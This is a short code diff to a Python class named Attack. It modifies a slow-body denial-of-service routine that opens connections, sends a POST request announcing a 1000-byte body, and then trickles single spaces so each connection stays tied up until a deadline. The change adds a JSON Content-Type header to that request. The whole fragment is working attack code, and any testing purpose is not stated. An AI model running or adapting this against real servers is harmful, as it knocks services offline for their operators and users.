@@ -118,7 +118,8 @@ class Attack:
             while time.monotonic() < self.end:
                 with contextlib.suppress(OSError):
                     reader, writer = await self.connect()
-                    writer.write(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n{{".encode())
+                    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json"
+                    writer.write(f"{head}\r\nContent-Length: 1000\r\n\r\n{{".encode())
                     while time.monotonic() < self.end and not reader.at_eof():
                         writer.write(b" ")
                         await writer.drain()
